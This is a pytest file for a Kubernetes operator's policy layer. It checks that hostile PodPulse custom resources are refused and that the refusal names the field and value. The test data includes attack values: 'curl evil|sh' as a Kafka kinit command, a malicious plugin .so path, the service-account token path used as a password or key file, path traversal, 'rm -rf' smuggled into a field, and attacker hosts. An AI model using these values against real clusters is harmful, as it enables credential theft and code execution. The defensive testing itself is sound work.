"""crds/policy.py: what a custom resource may ask of the operator, from the operator's configuration.

An attacker who may create PodPulse resources, but not pods, tries to run an image of their own,
to read a Secret they may not, to send the service-account token as a database password, and to
load code into librdkafka. Each is refused with a status naming the field and the value.
"""

import re

import pytest

from crds import policy
from crds import reconcile as rc

NOW = "2026-11-28T07:00:00Z"
TOKEN = "/var/run/secrets/kubernetes.io/serviceaccount/token"


def stream_with(example, **change):
    return example("AirPodsDataStream", **change)


def core_backend(example, **backend):
    """The example stream whose core backend is ``backend``: a host of the attacker's, a credential source."""
    cr = example("AirPodsDataStream")
    cr["spec"]["storage"]["backends"]["core"] = {"type": "oracle", "url": "oracle://x@attacker.example:1521/x",
                                                 **backend}
    return cr


ATTACKS = {
    "image": (lambda ex: stream_with(ex, image="evil/x:2.60.0"), "spec.image 'evil/x:2.60.0'"),
    "envFrom Secret": (lambda ex: stream_with(ex, credentialsSecret="cluster-admin-token"),
                       "spec.credentialsSecret 'cluster-admin-token'"),
    "volume Secret": (lambda ex: stream_with(ex, kafkaConfigSecret={"name": "other-team-kafka"}),
                      "spec.kafkaConfigSecret.name 'other-team-kafka'"),
    "pseudonym key Secret": (lambda ex: stream_with(ex, pseudonymKeySecret="other-team-key"),
                             "spec.pseudonymKeySecret 'other-team-key'"),
    "pseudonym_key_file": (lambda ex: stream_with(ex, storage={**ex("AirPodsDataStream")["spec"]["storage"],
                                                               "pseudonym_key_file": TOKEN}),
                           f"spec.storage.pseudonym_key_file '{TOKEN}'"),
    "bootstrap of the attacker's": (lambda ex: stream_with(ex, bootstrap="kafka-bootstrap.podpulse.svc:9093,evil.example:9092"),
                                    "spec.bootstrap host 'evil.example'"),
    "storage url of the attacker's": (
        lambda ex: core_backend(ex, url="oracle://podpulse@db.evil.example:1521/?service_name=X",
                                password_env="PODPULSE_ORACLE_PASSWORD"),
        "spec.storage.backends.core.url host 'db.evil.example'"),
    "cassandra host by address": (
        lambda ex: stream_with(ex, storage={**ex("AirPodsDataStream")["spec"]["storage"], "backends": {
            **ex("AirPodsDataStream")["spec"]["storage"]["backends"],
            "raw": {**ex("AirPodsDataStream")["spec"]["storage"]["backends"]["raw"], "hosts": ["203.0.113.9"]}}}),
        "spec.storage.backends.raw.hosts host '203.0.113.9'"),
    "password_file": (lambda ex: core_backend(ex, password_file=TOKEN),
                      f"spec.storage.backends.core.password_file '{TOKEN}'"),
    "password_env of the pod": (lambda ex: core_backend(ex, password_env="RAY_AUTH_TOKEN"),
                                "spec.storage.backends.core.password_env 'RAY_AUTH_TOKEN'"),
    "plugin.library.paths": (lambda ex: stream_with(ex, kafka={"plugin.library.paths": "/tmp/evil.so"}),
                             "spec.kafka 'plugin.library.paths'"),
    "sasl.kerberos.kinit.cmd": (lambda ex: stream_with(ex, kafka={"sasl.kerberos.kinit.cmd": "curl evil|sh"}),
                                "spec.kafka 'sasl.kerberos.kinit.cmd'"),
    "ssl.engine.location": (lambda ex: stream_with(ex, kafka={"ssl.engine.location": "/tmp/engine.so"}),
                            "spec.kafka 'ssl.engine.location'"),
    "oauthbearer endpoint": (lambda ex: stream_with(ex, kafka={"sasl.oauthbearer.token.endpoint.url": "https://x"}),
                             "spec.kafka 'sasl.oauthbearer.token.endpoint.url'"),
    "ssl file outside the Secret": (lambda ex: stream_with(ex, kafka={"ssl.key.location": TOKEN}),
                                    f"spec.kafka 'ssl.key.location': '{TOKEN}'"),
    "ssl file escaping the Secret": (
        lambda ex: stream_with(ex, kafka={"ssl.ca.location": "/etc/podpulse/kafka/../../../" + TOKEN[1:]}),
        "spec.kafka 'ssl.ca.location'"),
    # libpq takes the host from the query too: the authority is not the only place a URL names one
    "storage url ?host=": (lambda ex: core_backend(
        ex, type="postgresql", url="postgresql://podpulse@pg.podpulse.svc:5432/podpulse?host=attacker.example.net",
        password_env="PODPULSE_PG_PASSWORD"), "spec.storage.backends.core.url query parameter 'host'"),
    "storage url ?hostaddr=": (lambda ex: core_backend(
        ex, type="postgresql", url="postgresql://podpulse@pg.podpulse.svc/podpulse?sslmode=disable&HOSTADDR=203.0.113.9",
        password_env="PODPULSE_PG_PASSWORD"), "spec.storage.backends.core.url query parameter 'HOSTADDR'"),
    "storage url ?service=": (lambda ex: core_backend(
        ex, type="postgresql", url="postgresql://podpulse@pg.podpulse.svc/podpulse?service=evil",
        password_env="PODPULSE_PG_PASSWORD"), "spec.storage.backends.core.url query parameter 'service'"),
    "storage url of two hosts": (lambda ex: core_backend(
        ex, type="postgresql", url="postgresql://podpulse@pg.podpulse.svc:5432,attacker.example.net:5432/podpulse",
        password_env="PODPULSE_PG_PASSWORD"), "spec.storage.backends.core.url host 'attacker.example.net'"),
    "another namespace's Service": (lambda ex: stream_with(ex, bootstrap="kafka-bootstrap.other-team.svc:9093"),
                                    "spec.bootstrap host 'kafka-bootstrap.other-team.svc'"),
    "plaintext over the Secret's TLS": (lambda ex: stream_with(ex, kafka={"security.protocol": "SASL_PLAINTEXT"}),
                                        "spec.kafka 'security.protocol' is refused with a kafkaConfigSecret"),
    "weaker SASL than the Secret's": (lambda ex: stream_with(ex, kafka={"sasl.mechanism": "PLAIN"}),
                                      "spec.kafka 'sasl.mechanism' is refused with a kafkaConfigSecret"),
    "migration image": (lambda ex: ex("OracleDBSchemaManager", image="registry.evil/podpulse:2.60.0"),
                        "spec.image 'registry.evil/podpulse:2.60.0'"),
    "migration Secret": (lambda ex: ex("OracleDBSchemaManager", connectionSecret={"name": "kube-root-ca"}),
                         "spec.connectionSecret.name 'kube-root-ca'"),
}


def children(cr, pol=rc.DEFAULT_POLICY, labels=None):
    of = rc.stream_children if cr["kind"] == "AirPodsDataStream" else rc.schema_children
    return of(cr, pol, labels)


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attackers_resource_is_refused_naming_the_field_and_value(example, validate_cr, attack):
    make, named = ATTACKS[attack]
    cr = make(example)
    with pytest.raises(rc.Refused) as refused:
        children(cr)
    assert named in str(refused.value)
    status = rc.invalid_status(cr, refused.value, NOW)
    (ready,) = status["conditions"]
    assert (status["phase"], ready["status"], ready["reason"]) == ("Refused", "False", "NotAllowed")
    assert named in ready["message"]
    validate_cr({**example(cr["kind"]), "status": status})  # the CRD admits the Refused phase


def test_every_ingest_pod_reads_the_pseudonym_key_from_its_secret_at_one_path(example):
    """The driver names the key file; consumers on any worker must find the same key there."""
    _, job = children(example("AirPodsDataStream"))
    cluster = job["spec"]["rayClusterSpec"]
    for pod in [cluster["headGroupSpec"]["template"], *(g["template"] for g in cluster["workerGroupSpecs"])]:
        (volume,) = [v for v in pod["spec"]["volumes"] if v["name"] == "pseudonym-key"]
        assert volume["secret"] == {"secretName": "podpulse-pseudonym-key", "defaultMode": 0o440,
                                    "items": [{"key": "key", "path": "key"}]}
        (container,) = pod["spec"]["containers"]
        assert {"name": "PODPULSE_PSEUDONYM_KEY_FILE", "value": "/etc/podpulse/pseudonym/key"} in container["env"]
        assert {"name": "pseudonym-key", "mountPath": "/etc/podpulse/pseudonym", "readOnly": True} \
            in container["volumeMounts"]


@pytest.mark.parametrize("kind", ["AirPodsDataStream", "OracleDBSchemaManager"])
def test_the_examples_are_accepted_by_the_default_policy(example, kind):
    assert children(example(kind))


def test_every_refusal_is_named_at_once(example):
    cr = stream_with(example, image="evil/x", kafka={"plugin.library.paths": "x", "client.id": "ok"})
    with pytest.raises(rc.Refused, match=r"spec.image 'evil/x'.*; spec.kafka 'plugin.library.paths'"):
        children(cr)


@pytest.mark.parametrize("image, allowed", [
    ("podpulse:2.60.0-py311-abc", True), ("podpulse@sha256:" + "0" * 64, True), ("podpulse", True),
    ("podpulse-evil:2.60.0", False), ("podpulse.evil.example/podpulse:2.60.0", False), ("evil/podpulse:2.60.0", False),
    ("docker.io/library/podpulse:2.60.0", False),  # the same image in another spelling: list it to allow it
])
def test_images_default_to_the_operators_own_repository(image, allowed):
    assert rc.DEFAULT_POLICY.allows_image(image) is allowed


def test_allowed_images_are_repositories_or_prefixes_ending_in_a_slash():
    pol = rc.Policy(image="podpulse:2.60.0-py311", images=("registry.example.com/podpulse/", "podpulse"))
    assert pol.allows_image("registry.example.com/podpulse/podpulse:2.60.0-py311-0.1.0")
    assert pol.allows_image("registry.example.com/podpulse/tools/x:1")
    assert not pol.allows_image("registry.example.com/podpulse-evil/x:1")
    assert not pol.allows_image("registry.example.com/podpulsex:1")
    assert pol.allows_image("podpulse:2.60.0")


def test_the_policy_comes_from_the_operators_environment():
    env = {"PODPULSE_ALLOWED_IMAGES": "registry.example.com/podpulse/, podpulse",
           "PODPULSE_ALLOWED_SECRETS": "kafka-a,db-b", "PODPULSE_ALLOWED_SECRET_LABEL": "team=data"}
    pol = rc.Policy.from_env(env, "registry.example.com/podpulse/podpulse:2.60.0-py311")
    assert pol.images == ("registry.example.com/podpulse/", "podpulse")
    assert pol.secrets == {"kafka-a", "db-b"} and pol.secret_label == "team=data"
    default = rc.Policy.from_env({}, "registry.example.com/podpulse/podpulse:2.60.0-py311")
    assert default.images == () and default.allows_image("registry.example.com/podpulse/podpulse:other")
    assert not default.allows_image("podpulse:2.60.0")
    assert default.secrets == policy.DEFAULT_SECRETS and default.secret_label == ""  # by name only: no `get` on Secrets
    strict = rc.Policy.from_env({"PODPULSE_ALLOWED_SECRETS": "", "PODPULSE_ALLOWED_SECRET_LABEL": ""}, "podpulse")
    assert strict.secrets == frozenset() and not strict.allows_secret("podpulse-credentials", {"x": "y"})
    with pytest.raises(AttributeError):
        strict.images = ("evil/",)  # frozen: read once at start


def test_a_secret_is_allowed_by_name_or_by_the_label(example):
    cr = stream_with(example, credentialsSecret="team-db")
    assert rc.DEFAULT_POLICY.unlisted(rc.secret_refs(cr).values()) == []  # by default nothing is looked up
    with pytest.raises(rc.Refused, match=r"'team-db' is not an allowed Secret \(list it in PODPULSE_ALLOWED_SECRETS\)"):
        children(cr)
    labelled = rc.Policy(image=rc.DEFAULT_IMAGE, secret_label="podpulse.io/allowed=true")
    assert labelled.unlisted(rc.secret_refs(cr).values()) == ["team-db"]  # the operator reads its labels
    with pytest.raises(rc.Refused, match="label it podpulse.io/allowed=true"):
        children(cr, labelled, labels={"team-db": {"podpulse.io/allowed": "false"}})
    with pytest.raises(rc.Refused, match="team-db"):
        children(cr, labelled, labels={"team-db": None})  # no such Secret
    assert children(cr, labelled, labels={"team-db": {"podpulse.io/allowed": "true"}})
    by_name = rc.Policy(image=rc.DEFAULT_IMAGE, secrets=frozenset({"team-db", "podpulse-kafka", "podpulse-pseudonym-key"}),
                        secret_label="")
    assert by_name.unlisted(["team-db", "other"]) == []  # no label admits: nothing to look up
    assert children(cr, by_name)
    with pytest.raises(rc.Refused, match=r"PODPULSE_ALLOWED_SECRETS\)"):
        children(stream_with(example, credentialsSecret="other"), by_name)


@pytest.mark.parametrize("settings", [
    {"compression.type": "lz4"},
    {"client.id": "podpulse-au", "client.rack": "au-east-1a"},
    {"session.timeout.ms": "45000", "request.timeout.ms": "30000", "socket.timeout.ms": "60000",
     "message.timeout.ms": "300000", "fetch.max.bytes": "52428800", "batch.size": "1000000"},
    {"ssl.ca.location": "/etc/podpulse/kafka/ca.crt", "ssl.certificate.location": "/etc/podpulse/kafka/tls.crt",
     "ssl.key.location": "/etc/podpulse/kafka/tls.key"},
])
def test_allowed_kafka_settings_pass(example, settings):
    assert children(stream_with(example, kafka=settings))


def test_without_a_kafka_secret_the_resource_says_how_to_connect(example):
    """No kafkaConfigSecret, no credentials to protect: the security settings are the resource's."""
    cr = stream_with(example, kafka={"security.protocol": "SSL", "ssl.endpoint.identification.algorithm": "https"})
    del cr["spec"]["kafkaConfigSecret"]
    assert children(cr)


@pytest.mark.parametrize("settings, message", [
    ({"security.protocol": "PLAINTEXT; rm -rf"}, "value 'PLAINTEXT; rm -rf'"),
    ({"session.timeout.ms": "soon"}, "value 'soon'"),
    ({"enable.auto.commit": "true"}, "not an allowed Kafka setting"),  # podpulse ingest commits itself
    ({"sasl.username": "someone"}, "not an allowed Kafka setting"),  # credentials: kafkaConfigSecret
])
def test_other_kafka_settings_and_values_are_refused(example, settings, message):
    with pytest.raises(rc.Refused, match=message):
        children(stream_with(example, kafka=settings))


def test_ssl_files_need_a_mounted_kafka_secret(example):
    cr = stream_with(example, kafka={"ssl.ca.location": "/etc/podpulse/kafka/ca.crt"})
    del cr["spec"]["kafkaConfigSecret"]
    with pytest.raises(rc.Refused, match="none is mounted"):
        children(cr)


def _listed(rule: str) -> set[str]:
    """The keys of the first ``k in [...]`` of a CEL rule."""
    listed = rule.split("k in [", 1)[1].split("]", 1)[0]
    return {k.strip(" '\n") for k in listed.split(",")}


def test_operator_policy_checks_are_mirrored_in_the_crd(crd_schema):
    """The schema states what it can; the operator, which knows its configuration, decides."""
    spec = crd_schema("AirPodsDataStream")["properties"]["spec"]
    keys, *values = spec["properties"]["kafka"]["x-kubernetes-validations"]
    assert _listed(keys["rule"]) == set(policy.KAFKA_SETTINGS) | policy.KAFKA_FILES
    # One rule per value pattern: self.all(k, !(k in [KEYS]) || self[k].matches('^(?:PATTERN)$'))
    patterns = {}
    for rule in values:
        pattern = re.fullmatch(r".*self\[k\]\.matches\('\^\(\?:(.*)\)\$'\)\)", rule["rule"]).group(1)
        patterns.update(dict.fromkeys(_listed(rule["rule"]), pattern))
    assert patterns == policy.KAFKA_SETTINGS
    (files,) = [r for r in spec["x-kubernetes-validations"] if "ssl.*.location" in r.get("message", "")]
    assert _listed(files["rule"]) == policy.KAFKA_FILES and f"'{rc.KAFKA_DIR}/'" in files["rule"]
    (security,) = [r for r in spec["x-kubernetes-validations"] if "how the credentials travel" in r.get("message", "")]
    listed = security["rule"].split("k in [", 1)[1].split("]", 1)[0]
    assert {k.strip(" '\n") for k in listed.split(",")} == policy.KAFKA_SECURITY
    backend = spec["properties"]["storage"]["properties"]["backends"]["additionalProperties"]
    assert "!has(self.password_file)" in {r["rule"] for r in backend["x-kubernetes-validations"]}
    for key in ("password_env", "username_env"):
        assert backend["properties"][key]["pattern"] == f"^{policy.CREDENTIAL_ENV.pattern}$"


def test_hosts_outside_the_cluster_are_allowed_only_by_the_operators_configuration(example):
    cr = stream_with(example, bootstrap="broker-1.kafka.corp.example:9093,BROKER-2.kafka.corp.example.:9093")
    with pytest.raises(rc.Refused, match=r"'broker-1.kafka.corp.example' is not an allowed host"):
        children(cr)
    corp = rc.Policy.from_env({"PODPULSE_ALLOWED_HOSTS": ".corp.example, .{namespace}.svc"}, rc.DEFAULT_IMAGE)
    assert children(cr, corp)  # a suffix admits every name under it; case and a final dot do not matter
    assert not corp.allows_host("corp.example.evil", "podpulse") and not corp.allows_host("xcorp.example", "podpulse")
    assert not rc.Policy.from_env({"PODPULSE_ALLOWED_HOSTS": ""}, rc.DEFAULT_IMAGE).allows_host("x.podpulse.svc",
                                                                                                 "podpulse")


def test_by_default_a_stream_reaches_the_services_of_its_own_namespace_only(example):
    default = rc.DEFAULT_POLICY
    assert default.allows_host("kafka-bootstrap.podpulse.svc", "podpulse")
    assert default.allows_host("pg.podpulse.svc.cluster.local.", "podpulse")
    for host in ("kafka-bootstrap.other-team.svc", "podpulse.svc", "x.svc", "x.podpulse.svc.evil.example"):
        assert not default.allows_host(host, "podpulse"), host
    # the same stream in another namespace: refused, its hosts are the first namespace's Services
    cr = example("AirPodsDataStream")
    cr["metadata"]["namespace"] = "other-team"
    with pytest.raises(rc.Refused, match="'kafka-bootstrap.podpulse.svc' is not an allowed host"):
        children(cr)
    # what a URL may carry besides its host: the parameters of the examples
    assert children(core_backend(example, url="oracle://podpulse@oracle.podpulse.svc:1521/?service_name=FREEPDB1"))
    assert children(core_backend(example, type="postgresql",
                                 url="postgresql://podpulse@pg.podpulse.svc/podpulse?sslmode=verify-full"))
